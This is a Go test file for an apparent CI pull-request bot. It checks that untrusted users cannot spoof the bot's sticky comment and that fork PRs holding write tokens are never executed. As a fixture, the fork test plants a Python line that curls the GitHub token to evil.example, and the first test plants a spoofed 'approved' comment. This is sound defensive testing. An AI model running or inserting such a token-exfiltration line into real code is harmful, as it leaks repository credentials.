package action

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/runway-ci/runway/internal/testkit/githubfake"
	"github.com/runway-ci/runway/prbot"
)

// TestStickyCommentTrustsOnlyRunwayAndWriters: a comment carrying the
// sticky marker is edited as runway's own only when a bot or the
// repository's owner or a collaborator wrote it. Anyone else who pastes
// the marker (a member of the organisation without access, a contributor,
// a first-timer, a mannequin, a stranger) is left alone, and runway posts
// its own comment.
func TestStickyCommentTrustsOnlyRunwayAndWriters(t *testing.T) {
	for _, tc := range []struct {
		association string
		trusted     bool
	}{
		{"OWNER", true},
		{"COLLABORATOR", true},
		{"MEMBER", false},
		{"CONTRIBUTOR", false},
		{"FIRST_TIME_CONTRIBUTOR", false},
		{"FIRST_TIMER", false},
		{"MANNEQUIN", false},
		{"NONE", false},
	} {
		t.Run(tc.association, func(t *testing.T) {
			w, base := newWorld(t)
			runGit(t, w.dir, "checkout", "-q", "-b", "changes")
			appendTo(t, filepath.Join(w.dir, "pipeline", "train.py"), "\n# change\n")
			head := commitAll(t, w.dir, "change")
			w.gh.SetPullRequest(exampleRepo, githubfake.PullRequest{Number: prNumber, User: "alice", HeadSHA: head, HeadRef: "changes", BaseSHA: base, BaseRef: "master"})
			w.gh.SetAssociation(exampleRepo, "mallory", tc.association)
			planted := prbot.StickyMarker + "\nAll checks passed. Production promotion approved: https://evil.example/"
			id := w.gh.AddComment(exampleRepo, prNumber, "mallory", planted)

			res := w.run("pull_request", prPayload(t, "opened", prNumber, base, head, ""), "ghs_write", nil)
			if res.err != nil {
				t.Fatal(res.err)
			}
			cs := w.gh.Comments(exampleRepo, prNumber)
			var theirs *githubfake.Comment
			for i := range cs {
				if cs[i].ID == id {
					theirs = &cs[i]
				}
			}
			if theirs == nil {
				t.Fatal("the planted comment is gone")
			}
			if tc.trusted {
				if len(cs) != 1 || theirs.Edits != 1 || !strings.Contains(theirs.Body, head[:12]) {
					t.Errorf("a %s's sticky comment was not reused: %d comments, edits %d", tc.association, len(cs), theirs.Edits)
				}
				return
			}
			if theirs.Edits != 0 || theirs.Body != planted {
				t.Errorf("runway edited a comment by a %s that carried its marker:\n%s", tc.association, theirs.Body)
			}
			if len(cs) != 2 || cs[1].User != "github-actions[bot]" || !strings.HasPrefix(cs[1].Body, prbot.StickyMarker) {
				t.Errorf("runway did not post its own sticky comment: %+v", cs)
			}
		})
	}
}

// TestActionForkPRWithWriteToken: a fork's PR whose run has a write token
// (pull_request_target, or a repository that hands forks write tokens)
// is still only validated and planned. Whether code is trusted follows from
// where it comes from, never from what the token may do: nothing is
// registered, nothing runs, nothing is written to GitHub.
func TestActionForkPRWithWriteToken(t *testing.T) {
	w, base := newWorld(t)
	runGit(t, w.dir, "checkout", "-q", "-b", "changes")
	appendTo(t, filepath.Join(w.dir, "pipeline", "train.py"), "\nimport os; os.system('curl https://evil.example/?t=$GITHUB_TOKEN')\n")
	head := commitAll(t, w.dir, "fork change")
	w.gh.SetPullRequest(exampleRepo, githubfake.PullRequest{Number: prNumber, User: "mallory", HeadSHA: head, HeadRef: "changes",
		HeadRepo: "mallory/Hello-World", BaseSHA: base, BaseRef: "master"})
	p := prPayload(t, "opened", prNumber, base, head, "")
	set(t, p, "pull_request.head.repo.full_name", "mallory/Hello-World")
	res := w.run("pull_request", p, "ghs_write", map[string]string{"INPUT_RUN": "launchplan/nightly"})
	if res.err != nil {
		t.Fatalf("fork PR: %v", res.err)
	}
	if n := len(w.entities("development")); n != 0 {
		t.Errorf("a fork PR with a write token registered %d entities", n)
	}
	if res.outputs["execution"] != "" {
		t.Errorf("a fork PR with a write token ran execution %q", res.outputs["execution"])
	}
	if w.gh.Writes() != 0 {
		t.Errorf("%d writes to GitHub for a fork PR", w.gh.Writes())
	}
	entries, _ := os.ReadDir(w.storeDir)
	for _, e := range entries {
		if e.Name() == "blobs" {
			if bl, _ := os.ReadDir(filepath.Join(w.storeDir, "blobs", "sha256")); len(bl) > 0 {
				t.Errorf("a fork PR wrote %d blobs into the store", len(bl))
			}
		}
	}
	if !strings.Contains(res.summary, "comes from a fork") {
		t.Errorf("summary does not say the PR comes from a fork:\n%s", res.summary)
	}
}
